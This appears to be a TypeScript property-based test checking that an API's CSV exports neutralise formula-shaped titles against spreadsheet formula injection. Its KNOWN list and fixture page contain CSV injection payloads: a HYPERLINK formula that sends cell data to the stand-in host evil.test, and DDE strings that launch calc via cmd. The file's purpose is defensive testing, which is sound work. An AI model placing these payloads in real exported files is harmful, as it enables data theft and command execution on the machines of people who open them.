import fc from 'fast-check';
import { parseCsv, rawBody as bytes, strictUtf8 as utf8 } from '../../../test/parse-csv';
import { SignedIn, useTestApp } from '../../../test/test-app';

/**
 * Every CSV the API writes, found in its OpenAPI description (an operation that produces text/csv), must be safe
 * to open in a spreadsheet: no text cell starts with what Excel or LibreOffice runs as a formula, whether the text
 * was typed by a member or came from a fetched page's <title>; numbers stay numbers. A new CSV route fails here
 * until it is listed in CSV_EXPORTS with the query that asks for its CSV.
 */
const CSV_EXPORTS: Record<string, string> = {
  '/api/content-items/export': 'format=csv',
  '/api/reports/export': 'format=csv',
};

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];
const NUMBER = /^-?\d+(\.\d+)?$/;

// Formula-shaped titles: a formula character, then anything a title may hold (the input policy keeps control
// characters out; titles are trimmed, so a leading tab or CR is stored without it, but is offered all the same).
const formulaTitle = fc
  .tuple(fc.constantFrom(...FORMULA_START), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }))
  .map(([start, rest]) => `${start}${rest}`)
  .filter((title) => title.trim().length > 1);
const KNOWN = [
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function titlesIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(titlesIn);
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, inner]) => (key === 'title' && typeof inner === 'string' ? [inner] : titlesIn(inner)));
}

describe('every CSV export, with formula-shaped titles', () => {
  const app = useTestApp({ env: { FETCH_ALLOW_PRIVATE: 'true' } }, { fixtureSite: true });
  let owner: SignedIn;
  let csvPaths: string[];

  beforeAll(async () => {
    const doc = (await app.anonymous().get('/api/docs-json').expect(200)).body as {
      paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
    };
    csvPaths = Object.entries(doc.paths)
      .filter(([, item]) => Object.values(item.get?.responses ?? {}).some((r) => r.content && 'text/csv' in r.content))
      .map(([path]) => path);

    owner = await app.signUp();
    // A page whose own <title> is a formula, taken as the item's title the way the Add dialog takes it.
    app.site.setPage('/formula-title', '<html><head><title>=HYPERLINK("http://evil.test","Open")</title></head><body><main><p>Text.</p></main></body></html>');
    const fetched = (
      await owner.agent
        .post('/api/page-title')
        .send({ url: `${app.site.url}/formula-title` })
        .expect(200)
    ).body;
    expect(fetched.title).toBe('=HYPERLINK("http://evil.test","Open")');

    const titles = [fetched.title, ...KNOWN, ...fc.sample(formulaTitle, { numRuns: 10, seed: 31 })];
    for (const [i, title] of titles.entries()) {
      const url = i === 0 ? `${app.site.url}/formula-title` : `${app.site.url}/fresh?i=${i}`;
      const { body } = await owner.agent.post('/api/content-items').send({ title, url }).expect(201);
      // Analysed, the items carry scores and reach the report's item tables.
      await owner.agent.post(`/api/content-items/${body.id}/analyze`).expect(200);
    }
  });

  it('finds every CSV route in the API description', () => {
    expect(csvPaths.sort()).toEqual(Object.keys(CSV_EXPORTS).sort());
  });

  it('writes no cell a spreadsheet would run, keeps each title readable and numbers numeric', async () => {
    for (const path of csvPaths) {
      // The titles the same export lists as JSON (every `title` in it), to find again in the CSV.
      const json = (await owner.agent.get(`${path}?${CSV_EXPORTS[path].replace('format=csv', 'format=json')}`).expect(200)).body;
      const stored = new Set(titlesIn(json));
      expect({ path, some: stored.size > 0 }).toEqual({ path, some: true });
      const response = await owner.agent.get(`${path}?${CSV_EXPORTS[path]}`).buffer(true).parse(bytes).expect(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      const records = parseCsv(utf8(response.body));
      const [header, ...rows] = records;
      const cells = rows.flat();
      for (const cell of cells) {
        if (FORMULA_START.includes(cell[0])) expect({ path, cell }).toEqual({ path, cell: expect.stringMatching(NUMBER) });
      }
      // Every title is there, shown as text: the apostrophe, then the title as stored.
      const titleColumn = header.indexOf(header.includes('title') ? 'title' : 'name');
      const written = new Set(rows.map((row) => row[titleColumn]));
      for (const title of stored)
        expect({ path, written: written.has(FORMULA_START.includes(title[0]) ? `'${title}` : title) }).toEqual({ path, written: true });
      // Scores are numbers, written bare.
      const score = header.indexOf(header.includes('healthScore') ? 'healthScore' : 'value');
      expect(rows.some((row) => NUMBER.test(row[score]))).toBe(true);
    }
  });
});
